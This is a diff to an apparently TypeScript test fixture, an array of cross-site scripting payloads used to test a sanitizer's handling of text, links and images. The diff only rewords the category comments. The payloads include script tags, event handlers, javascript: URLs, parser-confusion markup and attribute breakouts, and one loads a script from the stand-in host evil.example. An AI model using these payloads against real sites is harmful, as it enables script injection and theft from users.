@@ -3,7 +3,7 @@
  * element, and addresses that contain code. Tests use each of them in every text, rich text, link and picture.
  */
 export const ATTACKS: readonly string[] = [
-  // Elements that run.
+  // Elements that execute code.
   "<script>alert(1)</script>",
   "<ScRiPt src=//evil.example/x.js></sCrIpT>",
   "<script\u000csrc=data:,alert(1)></script>",
@@ -16,7 +16,7 @@ export const ATTACKS: readonly string[] = [
   "<svg><script href=data:,alert(1) />",
   '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:,alert(1)"></script></svg>',
   "<math><mtext><script>alert(1)</script></mtext></math>",
-  // Handlers.
+  // Event handlers.
   "<img src=x onerror=alert(1)>",
   "<img src=x onerror\u000b=alert(1)>",
   "<img/src='x'/onerror='alert(1)'>",
@@ -37,7 +37,7 @@ export const ATTACKS: readonly string[] = [
   "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
   "<a href=# onpointerrawupdate=alert(1)>x</a>",
   "<xss contenteditable onbeforeinput=alert(1)>x</xss>",
-  // Elements that load, or that change what the page means.
+  // Elements that load resources or change the meaning of the page.
   "<iframe src=javascript:alert(1)></iframe>",
   "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
   "<object data=javascript:alert(1)></object>",
@@ -54,7 +54,7 @@ export const ATTACKS: readonly string[] = [
   "<plaintext>",
   "<p style='background:url(javascript:alert(1))'>x</p>",
   '<div style="width:expression(alert(1))">x</div>',
-  // Parsers that disagree.
+  // Markup that parsers interpret differently.
   "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
   "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
   "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
@@ -69,7 +69,7 @@ export const ATTACKS: readonly string[] = [
   "&lt;script&gt;alert(1)&lt;/script&gt;",
   "&#60;img src=x onerror=alert(1)&#62;",
   "\u003cimg src=x onerror=alert(1)\u003e",
-  // Out of an attribute, out of an element, out of our own markup.
+  // Markup that closes an attribute, an element, or a block's own markup.
   '"><script>alert(1)</script>',
   "'><img src=x onerror=alert(1)>",
   '" onmouseover="alert(1)" x="',
@@ -80,7 +80,7 @@ export const ATTACKS: readonly string[] = [
   "{{constructor.constructor('alert(1)')()}}",
   "$\u007balert(1)}",
   "\u2028</script><script>alert(1)</script>\u2029",
-  // Addresses that are code.
+  // Addresses that execute code.
   "javascript:alert(1)",
   "JaVaScRiPt:alert(1)",
   " \u0001javascript:alert(1)",
